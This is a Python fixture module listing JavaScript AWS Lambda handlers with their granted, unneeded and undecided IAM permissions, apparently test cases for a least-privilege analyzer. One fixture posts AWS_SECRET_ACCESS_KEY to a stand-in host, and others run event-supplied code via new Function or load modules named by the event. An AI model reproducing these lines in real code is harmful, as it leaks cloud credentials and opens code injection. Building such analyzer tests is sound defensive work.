"""Functions in JavaScript: what they are granted, what is needless of it, what is not decided."""

from __future__ import annotations

from typing import NamedTuple


class Program(NamedTuple):
    """One function in `src/app.SUFFIX`, and other files of it."""

    name: str
    granted: str
    needless: str
    undecided: str
    code: str
    suffix: str = "js"
    files: dict[str, str] = {}  # noqa: RUF012


_S3 = "import { S3Client, GetObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';\n"
_DOCS = (
    "import { DynamoDBClient } from '@aws-sdk/client-dynamodb';\n"
    "import { DynamoDBDocumentClient, GetCommand, PutCommand, QueryCommand, paginateScan,\n"
    "  TransactWriteCommand, BatchWriteCommand } from '@aws-sdk/lib-dynamodb';\n"
    "const db = DynamoDBDocumentClient.from(new DynamoDBClient({}));\n"
)
_TABLE = "TableName: process.env.TABLE"

PROGRAMS = (
    Program(
        "v3-one-command",
        "s3:PutObject s3:DeleteObject",
        "s3:DeleteObject",
        "",
        _S3 + "const s3 = new S3Client({});\nexport const handler = async (event) => {\n"
        "  await s3.send(new PutObjectCommand({ Bucket: 'a', Key: event.key, Body: '' }));\n};",
    ),
    Program(
        "v3-command-made-by-a-helper",
        "s3:GetObject s3:PutObject",
        "s3:PutObject",
        "",
        _S3
        + "const s3 = new S3Client({});\nconst read = (Key) => new GetObjectCommand({ Bucket: 'a', Key });\n"
        "export const handler = async (event) => s3.send(read(event.key));",
    ),
    Program(
        "v3-table-of-commands",
        "s3:GetObject s3:PutObject s3:DeleteObject",
        "s3:DeleteObject",
        "",
        _S3
        + "const s3 = new S3Client({});\nconst make = { get: GetObjectCommand, put: PutObjectCommand };\n"
        "export const handler = async (event) => s3.send(new make[event.what]({ Bucket: 'a', Key: 'k' }));",
    ),
    Program(
        "v3-in-another-file",
        "dynamodb:GetItem dynamodb:PutItem dynamodb:Query",
        "dynamodb:PutItem dynamodb:Query",
        "",
        "import { find } from './store.js';\nexport const handler = async (event) => find(event.id);",
        files={
            "store.js": _DOCS
            + f"export const find = (id) => db.send(new GetCommand({{ {_TABLE}, Key: {{ id }} }}));\n"
            f"export const save = (Item) => db.send(new PutCommand({{ {_TABLE}, Item }}));\n"
        },
    ),
    Program(
        "v3-class-with-a-client",
        "dynamodb:Query dynamodb:Scan",
        "dynamodb:Scan",
        "",
        _DOCS + "class Orders {\n  constructor(client) { this.client = client; }\n"
        f"  async list(id) {{ return this.client.send(new QueryCommand({{ {_TABLE} }})); }}\n}}\n"
        "const orders = new Orders(db);\nexport const handler = (event) => orders.list(event.id);",
    ),
    Program(
        "v3-paginator",
        "dynamodb:Scan dynamodb:Query",
        "dynamodb:Query",
        "",
        _DOCS + "export const handler = async () => {\n"
        f"  for await (const page of paginateScan({{ client: db }}, {{ {_TABLE} }})) console.log(page.Count);\n}};",
    ),
    Program(
        "v3-transaction",
        "dynamodb:PutItem dynamodb:UpdateItem dynamodb:DeleteItem",
        "dynamodb:DeleteItem",
        "",
        _DOCS
        + "export const handler = async (event) => db.send(new TransactWriteCommand({ TransactItems: [\n"
        f"  {{ Put: {{ {_TABLE}, Item: event }} }}, {{ Update: {{ {_TABLE}, Key: {{ id: 1 }} }} }} ] }}));",
    ),
    Program(
        "v3-batch",
        "dynamodb:BatchWriteItem dynamodb:BatchGetItem",
        "dynamodb:BatchGetItem",
        "",
        _DOCS
        + "export const handler = async (event) => db.send(new BatchWriteCommand({ RequestItems: { orders: [] } }));",
    ),
    Program(
        "v3-waiter",
        "s3:GetObject s3:PutObject",
        "s3:PutObject",
        "",
        "import { S3Client, waitUntilObjectExists } from '@aws-sdk/client-s3';\n"
        "export const handler = () => waitUntilObjectExists({ client: new S3Client({}), maxWaitTime: 9 },\n"
        "  { Bucket: 'a', Key: 'k' });",
    ),
    Program(
        "v3-aggregated-client",
        "s3:PutObject s3:GetObject s3:ListBucket",
        "s3:GetObject",
        "",
        "const { S3 } = require('@aws-sdk/client-s3');\nconst s3 = new S3({ region: 'eu-west-1' });\n"
        "exports.handler = async () => {\n  await s3.putObject({ Bucket: 'a', Key: 'k', Body: '' });\n"
        "  return s3.listObjectsV2({ Bucket: 'a' });\n};",
    ),
    Program(
        "v3-document-methods",
        "dynamodb:GetItem dynamodb:UpdateItem dynamodb:DeleteItem",
        "dynamodb:DeleteItem",
        "",
        "import { DynamoDB } from '@aws-sdk/client-dynamodb';\n"
        "import { DynamoDBDocument } from '@aws-sdk/lib-dynamodb';\n"
        "const db = DynamoDBDocument.from(new DynamoDB());\nexport async function handler(event) {\n"
        f"  const found = await db.get({{ {_TABLE}, Key: {{ id: event.id }} }});\n"
        f"  if (found.Item) await db.update({{ {_TABLE}, Key: {{ id: event.id }} }});\n}}",
        "mjs",
    ),
    Program(
        "v3-presigned",
        "s3:GetObject s3:PutObject s3:DeleteObject",
        "s3:PutObject s3:DeleteObject",
        "",
        _S3 + "import { getSignedUrl } from '@aws-sdk/s3-request-presigner';\n"
        "export const handler = (event) => getSignedUrl(new S3Client({}), new GetObjectCommand({ Bucket: 'a', Key: event.k }));",
    ),
    Program(
        "v3-upload",
        "s3:PutObject s3:AbortMultipartUpload s3:GetObject",
        "s3:GetObject",
        "",
        "import { S3Client } from '@aws-sdk/client-s3';\nimport { Upload } from '@aws-sdk/lib-storage';\n"
        "export const handler = async (event) => {\n  const upload = new Upload({ client: new S3Client({}),\n"
        "    params: { Bucket: 'a', Key: 'k', Body: event.body } });\n  await upload.done();\n};",
    ),
    Program(
        "v3-many-services",
        "sqs:SendMessage sqs:DeleteMessage sns:Publish sns:Subscribe secretsmanager:GetSecretValue "
        "states:StartExecution states:StopExecution events:PutEvents lambda:InvokeFunction",
        "sqs:DeleteMessage sns:Subscribe states:StopExecution",
        "",
        "import { SQSClient, SendMessageBatchCommand } from '@aws-sdk/client-sqs';\n"
        "import { SNSClient, PublishCommand } from '@aws-sdk/client-sns';\n"
        "import { SecretsManagerClient, GetSecretValueCommand } from '@aws-sdk/client-secrets-manager';\n"
        "import { SFNClient, StartExecutionCommand } from '@aws-sdk/client-sfn';\n"
        "import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';\n"
        "import { LambdaClient, InvokeCommand } from '@aws-sdk/client-lambda';\n"
        "export const handler = async () => {\n"
        "  await new SecretsManagerClient({}).send(new GetSecretValueCommand({ SecretId: 'a' }));\n"
        "  await new SQSClient({}).send(new SendMessageBatchCommand({ QueueUrl: 'q', Entries: [] }));\n"
        "  await new SNSClient({}).send(new PublishCommand({ TopicArn: 't' }));\n"
        "  await new SFNClient({}).send(new StartExecutionCommand({ stateMachineArn: 'm' }));\n"
        "  await new EventBridgeClient({}).send(new PutEventsCommand({ Entries: [] }));\n"
        "  await new LambdaClient({}).send(new InvokeCommand({ FunctionName: 'f' }));\n};",
    ),
    Program(
        "v3-in-typescript",
        "ssm:GetParameter ssm:PutParameter",
        "ssm:PutParameter",
        "",
        "import { SSMClient, GetParameterCommand, type GetParameterCommandOutput } from '@aws-sdk/client-ssm';\n"
        "import type { Handler } from 'aws-lambda';\nconst client: SSMClient = new SSMClient({});\n"
        "export const handler: Handler<{ name: string }, string | undefined> = async (event) => {\n"
        "  const out: GetParameterCommandOutput = await client.send(new GetParameterCommand({ Name: event.name! }));\n"
        "  return out.Parameter?.Value;\n};",
        "ts",
    ),
    Program(
        "v2-promise",
        "s3:GetObject s3:PutObject dynamodb:PutItem dynamodb:GetItem",
        "s3:PutObject dynamodb:GetItem",
        "",
        "const AWS = require('aws-sdk');\nconst s3 = new AWS.S3();\nconst db = new AWS.DynamoDB.DocumentClient();\n"
        "exports.handler = async (event) => {\n  const found = await s3.getObject({ Bucket: 'a', Key: 'k' }).promise();\n"
        f"  await db.put({{ {_TABLE}, Item: {{ id: found.ETag }} }}).promise();\n}};",
    ),
    Program(
        "v2-callback",
        "sqs:SendMessage sqs:ReceiveMessage",
        "sqs:ReceiveMessage",
        "",
        "const SQS = require('aws-sdk/clients/sqs');\nconst sqs = new SQS();\n"
        "exports.handler = (event, context, callback) => {\n"
        "  sqs.sendMessage({ QueueUrl: 'q', MessageBody: 'x' }, (error, data) => callback(error, data));\n};",
    ),
    Program(
        "v2-signed-url",
        "s3:GetObject s3:PutObject",
        "s3:GetObject",
        "",
        "const AWS = require('aws-sdk');\nconst s3 = new AWS.S3({ signatureVersion: 'v4' });\n"
        "exports.handler = async (event) => s3.getSignedUrlPromise('putObject', { Bucket: 'a', Key: event.key });",
    ),
    Program(
        "v2-traced",
        "dynamodb:DeleteItem dynamodb:GetItem",
        "dynamodb:GetItem",
        "",
        "const XRay = require('aws-xray-sdk-core');\nconst AWS = XRay.captureAWS(require('aws-sdk'));\n"
        "const db = new AWS.DynamoDB.DocumentClient();\n"
        f"exports.handler = async (event) => db.delete({{ {_TABLE}, Key: {{ id: event.id }} }}).promise();",
    ),
    Program(
        "no-sdk-at-all",
        "s3:GetObject",
        "s3:GetObject",
        "",
        "exports.handler = async (event) => ({ statusCode: 200, body: JSON.stringify(event.path) });",
    ),
    Program(
        "branches-and-errors-count",
        "s3:GetObject s3:PutObject s3:DeleteObject",
        "s3:DeleteObject",
        "",
        _S3 + "const s3 = new S3Client({});\nexport const handler = async (event) => {\n"
        "  if (process.env.STAGE === 'prod') { await s3.send(new GetObjectCommand({ Bucket: 'a', Key: 'k' })); return 1; }\n"
        "  try { JSON.parse(event.body); } catch (e) { await s3.send(new PutObjectCommand({ Bucket: 'a', Key: 'k' })); throw e; }\n};",
    ),
    Program(
        "callbacks-of-libraries-count",
        "s3:GetObject s3:PutObject",
        "s3:PutObject",
        "",
        _S3
        + "import express from 'express';\nimport serverless from 'serverless-http';\nconst app = express();\n"
        "const s3 = new S3Client({});\napp.get('/x', async (req, res) => {\n"
        "  res.json(await s3.send(new GetObjectCommand({ Bucket: 'a', Key: req.query.k })));\n});\n"
        "export const handler = serverless(app);",
    ),
    Program(
        "a-client-that-is-not-known",
        "s3:GetObject s3:PutObject dynamodb:GetItem",
        "dynamodb:GetItem",
        "",
        "import { S3 } from '@aws-sdk/client-s3';\nimport { decode } from 'jwt-decode';\n"
        "export const handler = async (event) => {\n  const held = decode(event.t, new S3({}));\n"
        "  const other = held.stores[event.n];\n  await other.getObject({ Bucket: 'a' });\n  await other.putObject({ Bucket: 'a' });\n};",
    ),
    Program(
        "a-package-that-is-not-known",
        "s3:GetObject",
        "",
        "*",
        "import { save } from '@company/storage';\nexport const handler = (event) => save(event);",
    ),
    Program(
        "a-file-that-is-not-there",
        "s3:GetObject",
        "",
        "*",
        "const { save } = require('../shared/storage');\nexports.handler = (event) => save(event);",
    ),
    Program(
        "a-module-by-a-name-of-the-event",
        "s3:GetObject",
        "",
        "*",
        "exports.handler = async (event) => require('./' + event.what)(event);",
    ),
    Program(
        "another-program-is-run",
        "s3:GetObject",
        "",
        "*",
        "const { execFile } = require('child_process');\nexports.handler = async () => execFile('/opt/aws', ['s3', 'ls']);",
    ),
    Program(
        "code-that-is-made",
        "s3:GetObject",
        "",
        "*",
        "exports.handler = async (event) => new Function('event', event.code)(event);",
    ),
    Program(
        "syntax-that-is-broken",
        "s3:GetObject",
        "",
        "*",
        "exports.handler = async (event) => { return = 3; };\nlet ) = 2;",
    ),
    Program(
        "a-handler-that-is-not-there",
        "s3:GetObject",
        "",
        "*",
        "exports.other = async (event) => 1;",
    ),
    Program(
        "keys-of-the-role",
        "s3:GetObject",
        "",
        "*",
        "exports.handler = async () => fetch('https://a.example', { body: process.env.AWS_SECRET_ACCESS_KEY });",
    ),
    Program(
        "functions-deep-in-what-a-library-is-given",
        "dynamodb:GetItem dynamodb:UpdateItem dynamodb:PutItem",
        "dynamodb:PutItem",
        "",
        "const { graphql, GraphQLSchema, GraphQLObjectType } = require('graphql');\n"
        "const AWS = require('aws-sdk');\nconst db = new AWS.DynamoDB.DocumentClient();\n"
        "const promised = (f) => new Promise((resolve, reject) => f((e, r) => (e ? reject(e) : resolve(r))));\n"
        f"const find = (id) => promised((callback) => db.get({{ {_TABLE}, Key: {{ id }} }}, callback)).then((r) => r.Item);\n"
        "class Store { async save(item) { await db.update({ TableName: 't', Key: item }).promise(); } }\n"
        "const schema = new GraphQLSchema({ query: new GraphQLObjectType({ fields: { one: {\n"
        "  resolve: (parent, args) => find(args.id) } } }), stores: [new Store()] });\n"
        "module.exports.handler = (event) => graphql({ schema, source: event.body });",
    ),
)
